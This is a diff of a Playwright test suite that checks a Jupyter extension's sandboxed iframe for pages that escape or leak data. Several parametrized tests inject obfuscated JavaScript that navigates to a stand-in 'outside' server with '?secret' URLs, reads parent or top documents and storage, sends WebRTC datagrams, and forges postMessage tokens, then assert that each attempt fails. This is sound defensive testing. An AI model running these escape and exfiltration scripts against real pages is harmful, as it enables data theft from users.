@@ -3,13 +3,12 @@
 
 from __future__ import annotations
 
-import http.server
-import threading
 from collections.abc import Iterator
 
 import pytest
 from playwright.sync_api import expect
 from tests.browser.lab import Notebook
+from tests.browser.outside import Outside
 
 SHOW = """from flask import Flask, redirect, request
 from tests.browser import standin
@@ -29,43 +28,11 @@ browser = standin.show(app, live=False)
 browser"""
 
 
-class Outside:
-    """A server outside the app, which notes who comes."""
-
-    def __init__(self) -> None:
-        self.seen: list[str] = []
-        seen = self.seen
-
-        class Handler(http.server.BaseHTTPRequestHandler):
-            # Chromium connects for a frame before the policy refuses it, and sends
-            # nothing: a thread that reads must give up, or it outlives its test.
-            timeout = 0.5
-
-            def do_GET(self) -> None:
-                seen.append(self.path)
-                self.send_response(200)
-                self.send_header("Content-Type", "text/html")
-                self.end_headers()
-                self.wfile.write(b"<h1>outside</h1>")
-
-            do_POST = do_GET
-
-            def log_message(self, *_: object) -> None:
-                pass
-
-        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.url = f"http://127.0.0.1:{self.server.server_port}"
-        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
-        self.thread.start()
-
-
 @pytest.fixture(scope="module")
 def outside() -> Iterator[Outside]:
     server = Outside()
     yield server
-    server.server.shutdown()
-    server.server.server_close()
-    server.thread.join()
+    server.stop()
 
 
 @pytest.fixture(scope="module")
@@ -87,7 +54,8 @@ def attack(notebook: Notebook, html: str) -> None:
 
 def test_sandbox_never_allows_the_same_origin(shown: Notebook) -> None:
     attack(shown, "<h1 id=h>x</h1>")
-    frame = shown.view().locator("iframe.wb-frame[data-shown]")
+    enclosure = shown.view().frame_locator("iframe.wb-frame[data-shown]")
+    frame = enclosure.locator("iframe")
     assert frame.get_attribute("sandbox") == "allow-scripts allow-forms allow-modals"
     assert shown.frame().locator("body").evaluate("() => self.origin") in (
         "null",
@@ -100,7 +68,7 @@ def test_sandbox_never_allows_the_same_origin(shown: Notebook) -> None:
     [
         "parent.document.title",
         "top.document.body.innerHTML",
-        "parent.jupyterapp.version",
+        "parent.parent.jupyterapp.version",
         "top.location.href",
         "[...Array(parent.length).keys()].map((i) => parent[i]).find((one) => one !== self).document.title",
         "parent.localStorage.length",
@@ -207,18 +175,76 @@ except ValueError as error:
     assert outside.seen == before
 
 
-def test_page_that_leaves_by_itself_is_cut_off(
-    shown: Notebook, outside: Outside
+@pytest.mark.parametrize(
+    "script",
+    [
+        "Reflect.set(window, 'loc' + 'ation', URL)",
+        "Reflect.get(window, 'loc' + 'ation').replace(URL)",
+        "Reflect.get(document, 'loc' + 'ation').assign(URL)",
+        "(() => { const a = document.createElement('a'); a.href = URL; document.body.append(a);"
+        " a.addEventListener('click', (event) => event.stopImmediatePropagation(), true);"
+        " a.dispatchEvent(new MouseEvent('click', {bubbles: false})); })()",
+        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${URL}'>`)",
+    ],
+)
+def test_page_that_leaves_by_itself_is_stopped(
+    shown: Notebook, outside: Outside, script: str
 ) -> None:
+    """No request leaves, neither outside nor to Jupyter's own server."""
+    before = list(outside.seen)
+    asked: list[str] = []
+    shown.page.on("request", lambda request: asked.append(request.url))
+    for url in (f"{outside.url}/left?secret", f"{shown.lab.url}/api/contents?secret"):
+        attack(
+            shown,
+            "<h1 id=h>x</h1><button id=go>go</button><script>go.onclick ="
+            f" () => {{ const URL = {url!r}; {script} }}</script>",
+        )
+        shown.frame().locator("#go").click()
+        expect(shown.view().locator(".wb-notice")).to_contain_text("by itself")
+        count = shown.view().get_attribute("data-shown") or ""
+        shown.view().get_by_text("Load it again").click()
+        expect(shown.view()).not_to_have_attribute("data-shown", count)
+        expect(shown.frame().locator("#h")).to_have_text("x")
+    assert outside.seen == before
+    assert not [url for url in asked if url.endswith("?secret")]
+
+
+def test_page_cannot_move_its_enclosure(shown: Notebook, outside: Outside) -> None:
+    attack(shown, "<h1 id=h>x</h1>")
+    before = list(outside.seen)
+    got = (
+        shown.frame()
+        .locator("body")
+        .evaluate(
+            """(_, url) => {
+          const found = [];
+          for (const one of [parent, parent.parent, top]) {
+            try { Reflect.get(one, 'loc' + 'ation').href = url; found.push('went'); }
+            catch (error) { found.push(error.name); }
+          }
+          return found;
+        }""",
+            f"{outside.url}/enclosure",
+        )
+    )
+    assert got == ["SecurityError"] * 3
+    expect(shown.frame().locator("#h")).to_have_text("x")
+    assert outside.seen == before
+
+
+def test_page_has_no_webrtc(shown: Notebook, outside: Outside) -> None:
+    """It would send datagrams past the policy."""
+    server = f"stun:127.0.0.1:{outside.udp_port}"
     attack(
         shown,
-        "<h1 id=h>x</h1><a id=go>go</a><script>document.getElementById('go').onclick ="
-        f" () => Reflect.set(window, 'loc' + 'ation', '{outside.url}/left')</script>",
+        "<h1 id=h>x</h1><script>try {"
+        f"const one = new RTCPeerConnection({{iceServers: [{{urls: '{server}'}}]}});"
+        "one.createDataChannel('x'); one.createOffer().then((offer) => one.setLocalDescription(offer));"
+        "h.textContent = 'sent'; } catch (error) { h.textContent = error.name; }</script>",
     )
-    shown.frame().locator("#go").click()
-    expect(shown.view().locator(".wb-notice")).to_contain_text("by itself")
-    shown.view().get_by_text("Load it again").click()
-    expect(shown.frame().locator("#h")).to_have_text("x")
+    expect(shown.frame().locator("#h")).to_have_text("ReferenceError")
+    assert outside.datagrams == []
 
 
 def test_forged_messages_are_ignored(shown: Notebook) -> None:
@@ -226,7 +252,7 @@ def test_forged_messages_are_ignored(shown: Notebook) -> None:
     attack(shown, "<h1 id=h>x</h1>")
     shown.page.evaluate(
         """() => {
-          for (const frame of document.querySelectorAll('iframe.wb-frame')) {
+          for (const _ of document.querySelectorAll('iframe.wb-frame')) {
             const channel = new MessageChannel();
             window.postMessage({wb: 'hello', token: 'x'}, '*', [channel.port2]);
             channel.port1.postMessage({t: 'go', method: 'GET', url: 'http://app.invalid/ok'});
@@ -236,8 +262,9 @@ def test_forged_messages_are_ignored(shown: Notebook) -> None:
     shown.frame().locator("body").evaluate(
         """() => {
           const channel = new MessageChannel();
-          parent.postMessage({wb: 'hello', token: ''}, '*', [channel.port2]);
-          parent.postMessage({wb: 'hello', token: null}, '*');
+          const view = parent.parent;
+          view.postMessage({wb: 'hello', token: ''}, '*', [channel.port2]);
+          view.postMessage({wb: 'hello', token: null}, '*');
           channel.port1.postMessage({t: 'go', method: 'GET', url: 'http://app.invalid/ok'});
           return new Promise((resolve) => setTimeout(resolve, 200));
         }"""
